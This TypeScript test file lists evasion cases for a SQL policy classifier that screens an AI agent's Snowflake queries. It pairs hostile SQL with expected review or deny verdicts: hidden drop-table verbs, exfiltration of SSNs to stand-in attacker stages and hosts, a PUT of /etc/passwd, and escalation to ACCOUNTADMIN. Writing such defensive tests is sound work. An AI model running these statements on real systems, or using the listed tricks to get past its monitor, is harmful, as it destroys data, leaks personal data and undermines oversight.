/**
 * Evasion attempts: how an agent (or a prompt-injected one) would try to slip a
 * statement past the classifier. Comments and strings that hide or fake verbs,
 * `;` inside literals, odd whitespace and case, writes in CTEs, batches,
 * dynamic SQL, stages, privilege escalation, name-resolution tricks, aliases.
 */
import type { PolicyCase } from './types.ts';
import { evasions, HIGH, NOT_ALLOW } from './types.ts';

const SSN = 'ANALYTICS.PUBLIC.CUSTOMERS.SSN';
const EMAIL = 'ANALYTICS.PUBLIC.CUSTOMERS.EMAIL';
const CUSTOMERS = 'ANALYTICS.PUBLIC.CUSTOMERS';

const dropCustomers = (sql: string, extra: Partial<PolicyCase> = {}): PolicyCase => ({
  sql,
  action: 'review',
  codes: ['DESTRUCTIVE_DDL'],
  approvals: 2,
  risk: HIGH,
  ...extra,
});
const allowRead = (sql: string, extra: Partial<PolicyCase> = {}): PolicyCase => ({
  sql,
  action: 'allow',
  codes: ['READ_ONLY'],
  statements: 1,
  absent: ['DESTRUCTIVE_DDL', 'MULTI_STATEMENT'],
  ...extra,
});
const ssn = (sql: string, extra: Partial<PolicyCase> = {}): PolicyCase => ({
  sql,
  action: 'review',
  codes: ['SENSITIVE_COLUMN'],
  names: [SSN],
  absent: ['READ_ONLY'],
  ...extra,
});
const exfil = (sql: string, extra: Partial<PolicyCase> = {}): PolicyCase => ({
  sql,
  action: 'deny',
  codes: ['EXFILTRATION'],
  risk: 'critical',
  ...extra,
});

export const evasionCases: PolicyCase[] = evasions([
  // --- comments hiding or faking verbs ---------------------------------------
  dropCustomers('/* select */ drop table customers'),
  dropCustomers('-- select 1\ndrop table customers'),
  dropCustomers('// select 1\ndrop table customers', { note: 'Snowflake // line comment' }),
  dropCustomers('/**/drop/**/table/**/customers'),
  dropCustomers('drop--x\ntable customers'),
  dropCustomers('/* /* nested? */ drop table customers', { note: 'Snowflake comments do not nest: the first */ ends it' }),
  allowRead('select id from orders /* ; drop table orders */'),
  allowRead('select id from orders -- ; drop table orders'),
  allowRead('select id from orders\n// ; drop table orders\n'),
  allowRead('select id from orders; -- drop table orders', { note: 'trailing comment after the last ; is not a statement' }),
  {
    sql: 'select id from orders /* drop table x',
    action: NOT_ALLOW,
    note: 'an unterminated comment cannot be read safely',
  },
  {
    sql: 'select 1 --\ndelete from orders',
    action: 'review',
    risk: HIGH,
    note: 'no `;`: one statement that is not a plain read; never allowed',
  },
  {
    sql: 'select id from orders\r\n--\r\n; delete from orders',
    action: 'review',
    codes: ['MULTI_STATEMENT', 'UNBOUNDED_WRITE'],
    approvals: 2,
    statements: 2,
  },

  // --- strings and quoted identifiers faking verbs or hiding `;` ----------------
  allowRead('select \'; drop table customers; --\' as s'),
  allowRead('select \'it\'\'s; drop table orders\' as s from orders'),
  allowRead('select \'a\\\'; drop table customers; --\' as s', { note: 'backslash-escaped quote keeps the string open' }),
  allowRead('select "weird;name" from orders'),
  allowRead('select id from orders where status = \'*/ drop table x /*\''),
  allowRead('select "DELETE" from orders', { note: 'a quoted identifier named like a verb' }),
  {
    sql: 'select $$; drop table customers; $$ as body',
    action: ['allow', 'review'],
    statements: 1,
    absent: ['DESTRUCTIVE_DDL', 'MULTI_STATEMENT'],
    note: 'a $$ string is one literal; never a second statement',
  },
  {
    sql: 'select \'abc from orders; drop table customers',
    action: NOT_ALLOW,
    note: 'an unterminated string cannot be read safely',
  },
  ssn('select 1 as "--", ssn from customers'),
  ssn('select \'--\' as a, ssn from customers'),

  // --- case, whitespace, invisible characters -----------------------------------
  dropCustomers('DrOp TaBlE cUsToMeRs', { tables: [CUSTOMERS] }),
  dropCustomers('drop\u00a0table\u00a0customers', { note: 'NBSP' }),
  dropCustomers('drop\u2003table\u3000customers', { note: 'EM SPACE, IDEOGRAPHIC SPACE' }),
  dropCustomers('\tdrop\ttable\tcustomers\t'),
  dropCustomers('\ufeffdrop table customers', { note: 'byte order mark' }),
  dropCustomers('\n\n   drop\n\ttable\r\ncustomers\n'),
  ssn('sElEcT SsN fRoM cUsToMeRs'),
  ssn('select\u00a0ssn\u00a0from\u00a0customers'),
  ssn('select\u2003ssn\u3000from\tcustomers'),
  { sql: 'dr\u200bop table customers', action: 'deny', codes: ['NOT_SQL'], risk: HIGH, note: 'zero-width space inside the verb: its first word DR is no SQL command, refused at once' },
  { sql: 'select\u200b ssn from customers', action: 'review', note: 'zero-width space after the verb' },
  { sql: 'select ssn\u200d from customers', action: 'review', note: 'zero-width joiner after a sensitive column' },
  { sql: 'delete\u200b from orders', action: 'review', risk: HIGH },

  // --- writes in CTEs and subqueries -------------------------------------------
  {
    sql: 'with x as (select 1 as id) insert into orders select id from x',
    action: 'review',
    codes: ['WRITE'],
    absent: ['READ_ONLY'],
  },
  {
    sql: 'with x as (select ssn from customers) insert into leak select ssn from x',
    action: 'review',
    codes: ['WRITE', 'SENSITIVE_COLUMN'],
    names: [SSN],
  },
  {
    sql: 'with x as (select id from orders) delete from orders where id in (select id from x)',
    action: 'review',
    codes: ['WRITE'],
    absent: ['READ_ONLY'],
  },
  {
    sql: 'with x as (delete from orders returning id) select * from x',
    action: 'review',
    absent: ['READ_ONLY'],
    note: 'a write inside a CTE body',
  },
  {
    sql: 'select * from (delete from orders returning *)',
    action: 'review',
    absent: ['READ_ONLY'],
  },

  // --- WHERE that is not really there -----------------------------------------
  { sql: 'delete from orders -- where id = 1', action: 'review', codes: ['UNBOUNDED_WRITE'], approvals: 2 },
  { sql: 'delete from orders /* where id = 1 */', action: 'review', codes: ['UNBOUNDED_WRITE'], approvals: 2 },
  { sql: 'update orders set note = \'where id = 1\'', action: 'review', codes: ['UNBOUNDED_WRITE'], approvals: 2 },
  {
    sql: 'update orders set total = (select max(total) from orders where id = 1)',
    action: 'review',
    codes: ['UNBOUNDED_WRITE'],
    approvals: 2,
    note: 'the only WHERE is inside a subquery',
  },

  // --- multi-statement batches ---------------------------------------------------
  { sql: 'select 1; select 2', action: 'review', codes: ['MULTI_STATEMENT'], statements: 2, absent: ['READ_ONLY'] },
  {
    sql: 'select id from orders; drop table orders',
    action: 'review',
    codes: ['MULTI_STATEMENT', 'DESTRUCTIVE_DDL'],
    approvals: 2,
    risk: HIGH,
    statements: 2,
  },
  {
    sql: 'select 1 -- comment\n; drop table customers',
    action: 'review',
    codes: ['MULTI_STATEMENT', 'DESTRUCTIVE_DDL'],
    approvals: 2,
    statements: 2,
  },
  {
    sql: 'SELECT 1;DELETE FROM orders;SELECT 2',
    action: 'review',
    codes: ['MULTI_STATEMENT', 'UNBOUNDED_WRITE'],
    approvals: 2,
    statements: 3,
  },
  { sql: 'select 1; copy into @leak from customers', action: 'deny', codes: ['MULTI_STATEMENT', 'EXFILTRATION'], risk: 'critical' },
  { sql: 'select 1;\nuse role accountadmin', action: 'deny', codes: ['MULTI_STATEMENT', 'ACCOUNT_CHANGE'] },
  {
    sql: 'select id from orders; grant select on table customers to role public',
    action: 'review',
    codes: ['MULTI_STATEMENT', 'PRIVILEGE_CHANGE'],
    approvals: 2,
    groups: ['security'],
  },
  {
    sql: 'insert into a values (1); drop table b; select ssn from customers',
    action: 'review',
    codes: ['MULTI_STATEMENT', 'WRITE', 'DESTRUCTIVE_DDL', 'SENSITIVE_COLUMN'],
    approvals: 2,
    names: [SSN],
  },
  {
    sql: '(select 1); drop table customers',
    action: 'review',
    codes: ['MULTI_STATEMENT', 'DESTRUCTIVE_DDL'],
    approvals: 2,
  },
  {
    sql: 'begin drop table customers; end',
    action: 'review',
    risk: HIGH,
    absent: ['READ_ONLY'],
    note: 'a scripting block split at the inner `;`',
  },

  // --- dynamic SQL and code --------------------------------------------------------
  {
    sql: 'execute immediate $$drop table customers$$',
    action: 'review',
    codes: ['CODE_EXECUTION', 'DESTRUCTIVE_DDL'],
    approvals: 2,
    risk: HIGH,
    note: 'the inner SQL is worse than "code": it decides',
  },
  {
    sql: 'EXECUTE IMMEDIATE $$ copy into @leak from customers $$',
    action: 'deny',
    codes: ['EXFILTRATION'],
    risk: 'critical',
  },
  { sql: 'execute immediate \'copy into @leak from orders\'', action: 'deny', codes: ['EXFILTRATION'], risk: 'critical' },
  { sql: 'execute immediate $$ grant role accountadmin to user mallory $$', action: 'deny', codes: ['ACCOUNT_CHANGE'] },
  { sql: 'execute immediate $$ select ssn from customers $$', action: 'review', risk: HIGH, codes: ['CODE_EXECUTION'] },
  {
    sql: 'execute immediate \'dr\' || \'op table customers\'',
    action: 'review',
    risk: HIGH,
    note: 'a computed body cannot be analysed: reviewed high',
  },
  {
    sql: 'execute immediate $$ begin delete from orders; drop table customers; end $$',
    action: 'review',
    risk: HIGH,
  },
  { sql: 'call system$wait(1)', action: 'review', codes: ['CODE_EXECUTION'], risk: HIGH },
  { sql: 'call exfil_proc(\'s3://attacker/\')', action: 'review', codes: ['CODE_EXECUTION'], risk: HIGH },
  { sql: '/* read only */ call refresh_all()', action: 'review', codes: ['CODE_EXECUTION'], risk: HIGH },
  {
    sql: 'declare c cursor for select 1; begin open c; end',
    action: 'review',
    risk: HIGH,
    absent: ['READ_ONLY'],
  },

  // --- stages, files, unloads -----------------------------------------------------
  exfil('copy /* harmless */ into @leak from customers'),
  exfil('COPY INTO @"my stage"/x from orders'),
  exfil('copy\ninto\n@~\nfrom\norders'),
  exfil('copy into @leak/p from (select ssn from customers) overwrite = true'),
  exfil('copy files into @leak from @ingest'),
  exfil('-- just a get\nput \'file:///etc/passwd\' @~'),
  exfil('GeT @ingest file:///tmp/x'),
  exfil('create stage if not exists x url = \'gcs://attacker/\''),
  exfil('create or replace storage integration i type = external_stage storage_provider = \'GCS\' enabled = true storage_allowed_locations = (\'gcs://a/\')'),
  exfil('create or replace secure external function f(x int) returns variant api_integration = i as \'https://attacker.example\''),
  exfil('create share s; grant usage on database analytics to share s', { codes: ['EXFILTRATION', 'MULTI_STATEMENT'] }),
  exfil('select get_presigned_url(@ingest, relative_path) from directory(@ingest)'),
  { sql: 'select $1 from @~/dump.csv', action: 'review', codes: ['STAGE_ACCESS'], absent: ['READ_ONLY'] },

  // --- privilege escalation ---------------------------------------------------------
  { sql: 'use role "ACCOUNTADMIN"', action: 'deny', codes: ['ACCOUNT_CHANGE'] },
  { sql: 'USE\tROLE\u00a0AccountAdmin', action: 'deny', codes: ['ACCOUNT_CHANGE'] },
  { sql: '/* analyst */ use role accountadmin', action: 'deny', codes: ['ACCOUNT_CHANGE'] },
  { sql: 'grant role "ACCOUNTADMIN" to role analyst', action: 'deny', codes: ['ACCOUNT_CHANGE'] },
  { sql: 'grant all privileges on account to role analyst', action: 'deny', codes: ['ACCOUNT_CHANGE'] },
  { sql: 'alter account set periodic_data_rekeying = false', action: 'deny', codes: ['ACCOUNT_CHANGE'] },
  {
    sql: 'alter user agent_svc set default_role = accountadmin',
    action: ['review', 'deny'],
    codes: [],
    absent: ['READ_ONLY'],
    note: 'privilege change at least',
  },
  { sql: 'revoke role analyst from user bob; grant role analyst to user mallory', action: 'review', codes: ['PRIVILEGE_CHANGE', 'MULTI_STATEMENT'], approvals: 2 },
  { sql: 'GRANT OWNERSHIP ON TABLE customers TO ROLE public', action: NOT_ALLOW, codes: [], absent: ['READ_ONLY'] },

  // --- undrop, clone, system functions --------------------------------------------
  { sql: 'UNDROP TABLE customers', action: 'review', codes: ['DDL'], approvals: 1, absent: ['READ_ONLY'] },
  { sql: 'undrop database analytics', action: 'review', codes: ['DDL'], absent: ['READ_ONLY'] },
  { sql: 'create table leak clone customers', action: 'review', codes: ['DDL'], absent: ['READ_ONLY'] },
  { sql: 'create schema x clone analytics.public at (offset => -3600)', action: 'review', codes: ['DDL'], absent: ['READ_ONLY'] },
  { sql: 'select system$whitelist()', action: 'review', codes: ['SYSTEM_FUNCTION'], absent: ['READ_ONLY'] },
  { sql: 'select SYSTEM$GET_PRIVATELINK_CONFIG()', action: 'review', codes: ['SYSTEM_FUNCTION'], absent: ['READ_ONLY'] },
  { sql: 'select id from orders where system$typeof(id) is not null', action: 'review', codes: ['SYSTEM_FUNCTION'], absent: ['READ_ONLY'] },
  { sql: 'select "RESULT_SCAN"(\'x\')', action: 'deny', codes: ['CROSS_SESSION'] },
  { sql: 'select * from table(RESULT_SCAN(-1))', action: 'deny', codes: ['CROSS_SESSION'] },

  // --- name resolution: unqualified, quoted, dots and spaces --------------------
  ssn('select ssn from customers', { tables: [CUSTOMERS], note: 'unqualified: ANALYTICS.PUBLIC by default' }),
  ssn('select ssn from public.customers'),
  ssn('select SSN from ANALYTICS.PUBLIC.CUSTOMERS'),
  ssn('select "SSN" from "CUSTOMERS"'),
  ssn('select "ANALYTICS"."PUBLIC"."CUSTOMERS"."SSN" from "ANALYTICS"."PUBLIC"."CUSTOMERS"'),
  ssn('select c."SSN" from "ANALYTICS".public."CUSTOMERS" as c'),
  {
    sql: 'select ssn from "a.b c"',
    action: 'review',
    codes: ['SENSITIVE_COLUMN'],
    absent: ['READ_ONLY'],
    note: 'a quoted table name with a dot and a space is one name',
  },
  { sql: 'select email from "x.y"', action: 'review', codes: ['SENSITIVE_COLUMN'], absent: ['READ_ONLY'], note: 'a dot inside a quoted table name' },
  { sql: 'select t.ssn from analytics."My.Schema"."T.1" t', action: 'review', codes: ['SENSITIVE_COLUMN'], absent: ['READ_ONLY'] },
  allowRead('select "a.b c" from orders', { note: 'a quoted column with a dot and a space is not SSN' }),
  allowRead('select id from "ORDERS" where "status;drop" = 1'),
  {
    sql: 'select ssn from orders o join customers c on o.customer_id = c.id',
    action: 'review',
    codes: ['SENSITIVE_COLUMN'],
    absent: ['READ_ONLY'],
    note: 'an unqualified column in a join may come from either table',
  },
  {
    sql: 'select profile from orders o join customers c on o.customer_id = c.id',
    action: 'review',
    codes: ['SENSITIVE_COLUMN'],
    names: ['ANALYTICS.PUBLIC.CUSTOMERS.PROFILE'],
    absent: ['READ_ONLY'],
    note: 'PROFILE is sensitive only on CUSTOMERS; ambiguous attribution fails closed',
  },

  // --- aliases, subqueries, stars, predicates --------------------------------------
  ssn('select x from (select ssn as x from customers)'),
  ssn('select t.x from (select ssn x from customers) t'),
  ssn('with a as (select ssn as harmless from customers) select harmless from a'),
  ssn('with a as (select * from customers) select ssn from a', { note: 'column reached through a CTE star' }),
  {
    sql: 'with a as (select * from products) select ssn from a',
    action: 'review',
    codes: ['SENSITIVE_COLUMN'],
    names: ['ANALYTICS.PUBLIC.PRODUCTS.SSN'],
    note: 'SSN named explicitly, reached through a CTE star over a table the catalog says nothing specific about',
  },
  {
    sql: 'select ssn from (select * from products)',
    action: 'review',
    codes: ['SENSITIVE_COLUMN'],
    names: ['ANALYTICS.PUBLIC.PRODUCTS.SSN'],
  },
  {
    sql: 'select x.email from (select * from leads) x',
    action: 'review',
    codes: ['SENSITIVE_COLUMN'],
    names: ['ANALYTICS.PUBLIC.LEADS.EMAIL'],
  },
  ssn('select id from customers where ssn like \'%6789\''),
  ssn('select count_if(ssn like \'9%\') from customers'),
  ssn('select id from customers c1 where exists (select 1 from customers c2 where c2.ssn = c1.ssn and c2.id <> c1.id)'),
  ssn('select id from customers order by ssn limit 1'),
  ssn('select hash(ssn) from customers'),
  ssn('select id from orders where 1 = 1 union all select ssn from customers'),
  {
    sql: 'select * exclude (ssn) from customers',
    action: 'review',
    names: [CUSTOMERS],
    absent: ['READ_ONLY'],
    note: 'EXCLUDE one column still reads PROFILE, EMAIL and the rest',
  },
  {
    sql: 'select $3 from customers',
    action: 'review',
    names: [CUSTOMERS],
    absent: ['READ_ONLY'],
    note: 'a positional column reads an unnamed column, possibly a sensitive one, like a star',
  },
  {
    sql: 'select t.* from (select $1, $2 from customers) t',
    action: 'review',
    names: [CUSTOMERS],
    absent: ['READ_ONLY'],
  },
  { sql: 'select c.* from orders o join customers c on c.id = o.customer_id', action: 'review', names: [CUSTOMERS], absent: ['READ_ONLY'] },
  { sql: 'select * from customers sample (10)', action: 'review', names: [CUSTOMERS], absent: ['READ_ONLY'] },
  { sql: 'select email from customers c join leads l using (email)', action: 'review', codes: ['SENSITIVE_COLUMN'], names: [EMAIL] },
  {
    sql: 'select f.value from customers c, lateral flatten(input => c.profile) f',
    action: 'review',
    names: ['ANALYTICS.PUBLIC.CUSTOMERS.PROFILE'],
    absent: ['READ_ONLY'],
  },
  {
    sql: 'select id from "HR".core.employees',
    action: 'review',
    codes: ['SENSITIVE_TABLE'],
    names: ['HR.CORE.EMPLOYEES'],
  },
]);
